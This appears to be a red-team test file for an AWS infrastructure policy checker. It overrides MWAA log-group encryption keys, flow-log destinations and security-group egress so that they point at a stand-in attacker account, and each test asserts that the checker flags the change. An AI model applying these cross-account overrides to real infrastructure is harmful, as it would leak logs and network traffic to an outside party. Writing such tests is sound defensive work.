import { at, attack, refTo, stackOf } from "./attack";

/**
 * Data handed to another account through an argument rather than a policy: a log group encrypted
 * with another account's key, flow logs delivered to another account's log group, a security group
 * rule to another account's security group. OWN_ACCOUNT_GRANTS reads policies only. Each
 * synthesizes with exit 0 and a REVIEW.md of PASS today.
 */
const ATTACKER = "999999999999";

describe("red team: arguments that send data to another account", () => {
  it("a task log group encrypted with another account's key fails", async () => {
    const outcome = await attack((app) =>
      at(app, "example-mwaa/log-groups/Task").addOverride("kms_key_id", `arn:aws:kms:eu-west-1:${ATTACKER}:key/11111111-2222-3333-4444-555555555555`),
    );
    expect(outcome.violations).not.toEqual([]);
  });

  it("flow logs delivered to another account's log group with a cross-account role fail", async () => {
    const outcome = await attack((app) => {
      at(app, "example-network/flow-logs/flow-log").addOverride("log_destination", `arn:aws:logs:eu-west-1:${ATTACKER}:log-group:stolen`);
      at(app, "example-network/flow-logs/flow-log").addOverride("deliver_cross_account_role", `arn:aws:iam::${ATTACKER}:role/deliver`);
    });
    expect(outcome.violations).not.toEqual([]);
  });

  it("MWAA egress to another account's security group (referenced_security_group_id) fails", async () => {
    const outcome = await attack((app) =>
      stackOf(app, "example-network").addOverride("resource.aws_vpc_security_group_egress_rule.partner", {
        security_group_id: refTo(app, "example-network/mwaa-security-group/group", "id"),
        ip_protocol: "-1",
        referenced_security_group_id: `${ATTACKER}/sg-0123456789abcdef0`,
        description: "to partner",
      }),
    );
    expect(outcome.violations).not.toEqual([]);
  });
});
